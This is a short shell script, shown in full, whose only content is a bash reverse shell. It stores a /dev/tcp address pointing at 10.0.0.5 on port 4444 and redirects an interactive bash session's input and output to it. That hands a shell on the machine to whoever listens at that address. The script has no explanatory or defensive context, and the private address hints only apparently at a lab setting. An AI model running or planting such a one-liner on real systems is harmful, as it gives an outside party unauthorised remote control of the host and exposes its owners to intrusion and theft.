#!/bin/sh
X=/dev/tcp/10.0.0.5/4444
bash -i >& $X 0>&1
